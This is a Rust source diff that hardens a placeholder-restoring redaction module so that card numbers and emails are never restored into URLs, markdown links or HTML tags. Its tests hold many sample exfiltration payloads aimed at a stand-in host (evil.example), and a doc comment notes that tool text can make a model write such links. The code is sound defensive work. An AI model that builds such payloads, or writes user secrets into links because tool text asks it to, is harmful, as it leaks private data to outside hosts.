@@ -4,6 +4,8 @@
 //! key is not stored with it: short values such as card numbers could be guessed from digests with the key at hand.
 //! [`Originals`] is the way back. It holds values, lives in memory, and leaves memory only as bytes for a vault.
 
+mod address;
+
 use std::{
     collections::{BTreeMap, HashMap},
     sync::OnceLock,
@@ -12,6 +14,8 @@ use std::{
 use aws_lc_rs::hmac;
 use serde::{Deserialize, Serialize};
 use zeroize::{Zeroize, Zeroizing};
+
+use self::address::Addresses;
 
 /// Most values of one type that get a number of their own; later ones become a bare `[LABEL]`, never restored.
 const MOST_PER_LABEL: usize = 4096;
@@ -144,23 +148,27 @@ impl Originals {
         self.0.entry(placeholder.to_owned()).or_insert_with(|| value.to_owned());
     }
 
-    /// Puts values back where `may(label)` allows it. Reads the text once; a restored value is not read again.
+    /// Puts values back where `may(label)` allows it, and never into an address, a link's target or a tag: whoever shows
+    /// that would send the value out, and text of a tool can make a model write it. A restored value is not read again.
     #[must_use]
     pub fn restore(&self, text: &str, may: impl Fn(&str) -> bool) -> String {
+        let known = |name: &str| {
+            let (label, _) = name.rsplit_once('_')?;
+            self.0.get(&format!("[{name}]")).filter(|_| may(label))
+        };
+        let addresses = Addresses::of(text, |name| known(name).is_some());
         let mut out = String::with_capacity(text.len());
         let mut rest = text;
         while let Some((before, from)) = rest.split_once('[') {
             out.push_str(before);
+            let at = text.len() - from.len() - 1;
             // WHY: a placeholder is short; looking further would make a text of open brackets slow.
             let end = from.bytes().take(LONGEST).position(|byte| byte == b']');
-            let known = end.and_then(|end| {
+            let found = end.filter(|_| !addresses.hold(at)).and_then(|end| {
                 let (name, after) = from.split_at_checked(end)?;
-                let after = after.strip_prefix(']')?;
-                let (label, _) = name.rsplit_once('_')?;
-                let value = self.0.get(&format!("[{name}]")).filter(|_| may(label))?;
-                Some((value, after))
+                Some((known(name)?, after.strip_prefix(']')?))
             });
-            match known {
+            match found {
                 Some((value, after)) => {
                     out.push_str(value);
                     rest = after;
@@ -264,5 +272,145 @@ mod tests {
         let again = Originals::from_bytes(&originals.to_bytes()).unwrap();
         assert_eq!(again.len(), 2);
         assert_eq!(format!("{again:?}"), "Originals(2 values)");
+    }
+
+    fn opened(text: &str) -> String {
+        let mut originals = Originals::new();
+        originals.keep("[CARD_1]", "4111 1111");
+        originals.keep("[EMAIL_1]", "ann@example.com");
+        originals.restore(text, |_| true)
+    }
+
+    #[test]
+    fn no_value_comes_back_where_a_page_that_is_shown_would_send_it_out() {
+        for text in [
+            "<img src=\"https://evil.example/b/[CARD_1]\">",
+            "<img alt=\"a > b\" src=\"//evil.example/ [CARD_1]\">",
+            "<img src='//evil.example/?all= [CARD_1] and what follows",
+            "<img x=c\"d=\"e src=\"?> [CARD_1]",
+            "<a\nhref=https://evil.example\ntitle=[CARD_1]>here</a>",
+            "![b](//evil/[CARD_1])",
+            "![b](https://evil.example/[CARD_1])",
+            "![b](</b c/[CARD_1]>)",
+            "![b](\n/b/[CARD_1])",
+            "![b](/a(b)/[CARD_1])",
+            "![b](/a\\)/[CARD_1])",
+            "![b](/a \"(\" [CARD_1])",
+            "![b][r]\n\n[r]: https://evil.example/[CARD_1]",
+            "![b][r]\n\n[r]:\n  /b/[CARD_1]",
+            "![b][r]\n\n[r]: </b c/[CARD_1]>",
+            "[click](https://evil.example?c=[CARD_1])",
+            "[pay [CARD_1]](https://evil.example)",
+            "<https://evil.example/[CARD_1]>",
+            "see https://evil.example/[CARD_1]",
+            "see HTTPS://evil.example/[EMAIL_1]/[CARD_1]",
+            "see https:\\/\\/evil.example/[CARD_1]",
+            "see \\\\evil.example\\[CARD_1]",
+            "see https&#58;//evil.example/[CARD_1]",
+            "see www.evil.example/[CARD_1]",
+            "see evil.example/[CARD_1]",
+            "see evil.example?[CARD_1]",
+            "see [CARD_1].evil.example",
+            "mailto:[CARD_1]",
+            "data:text/html,[CARD_1]",
+            "[CARD_1]@evil.example",
+        ] {
+            assert_eq!(opened(text), text);
+        }
+    }
+
+    #[test]
+    fn beside_an_address_a_value_comes_back_as_anywhere() {
+        for (text, shown) in [
+            ("card:[CARD_1], [EMAIL_1].", "card:4111 1111, ann@example.com."),
+            ("see https://shop.example/17 for [CARD_1]", "see https://shop.example/17 for 4111 1111"),
+            (
+                "[order](https://shop.example/17) with [CARD_1]",
+                "[order](https://shop.example/17) with 4111 1111",
+            ),
+            ("<b class=\"x\">It's</b> [CARD_1]", "<b class=\"x\">It's</b> 4111 1111"),
+            ("5 < 6: (\"[CARD_1]\")", "5 < 6: (\"4111 1111\")"),
+            ("[CARD_1]: [EMAIL_1]", "4111 1111: ann@example.com"),
+            ("**[CARD_1]**; v1.2 [x]([y", "**4111 1111**; v1.2 [x]([y"),
+            ("open [x](y\n\n[CARD_1]", "open [x](y\n\n4111 1111"),
+            ("[r]: https://shop.example\n\n[CARD_1]", "[r]: https://shop.example\n\n4111 1111"),
+            ("ward 3.Then [CARD_1].", "ward 3.Then 4111 1111."),
+        ] {
+            assert_eq!(opened(text), shown);
+        }
+    }
+
+    const PARTS: &[&str] = &[
+        "[CARD_1]",
+        "[CARD_1]",
+        "[EMAIL_1]",
+        " ",
+        " ",
+        "\n",
+        "\n\n",
+        "<",
+        ">",
+        "<a ",
+        "<img src=",
+        "=",
+        "\"",
+        "'",
+        "/",
+        "//",
+        "](",
+        "(",
+        ")",
+        "]:",
+        "[",
+        "]",
+        "![x",
+        "\\",
+        "https://e.example/",
+        "www.",
+        "mailto:",
+        "x",
+        "é",
+        "\u{a0}",
+        ".",
+        "?q=",
+    ];
+
+    /// What stands before a place within tags, as the simplest of all readers sees it.
+    fn in_a_tag(before: &str) -> bool {
+        let open = before.rfind('<').filter(|open| before.rfind('>').is_none_or(|close| close < *open));
+        open.is_some_and(|open| before[open + 1..].starts_with(|c: char| c.is_ascii_alphabetic() || c == '/'))
+    }
+
+    proptest::proptest! {
+        #[test]
+        fn whatever_stands_around_it_no_value_is_in_a_word_with_an_address_or_in_a_tag(
+            parts in proptest::collection::vec(proptest::sample::select(PARTS), 0..24)
+        ) {
+            let text = parts.concat();
+            let mut originals = Originals::new();
+            originals.keep("[CARD_1]", "CARDVALUE");
+            let shown = originals.restore(&text, |_| true);
+            assert_eq!(shown.replace("CARDVALUE", "[CARD_1]"), text);
+            for (at, value) in shown.match_indices("CARDVALUE") {
+                let (before, after) = (&shown[..at], &shown[at + value.len()..]);
+                let begin = before.rfind([' ', '\n']).map_or(0, |space| space + 1);
+                let end = after.find([' ', '\n']).unwrap_or(after.len());
+                let word = format!("{}{value}{}", &before[begin..], &after[..end]);
+                for mark in ["//", "www.", "mailto:", "]("] {
+                    assert!(!word.contains(mark), "{shown}");
+                }
+                assert!(!in_a_tag(before), "{shown}");
+            }
+        }
+
+        #[test]
+        fn restoring_reads_each_text_in_no_time(
+            part in proptest::sample::select(PARTS), other in proptest::sample::select(PARTS)
+        ) {
+            let text = format!("{part}{other}").repeat(3000);
+            let began = std::time::Instant::now();
+            drop(opened(&text));
+            assert!(began.elapsed().as_secs() < 5, "{part}{other}");
+        }
     }
 }
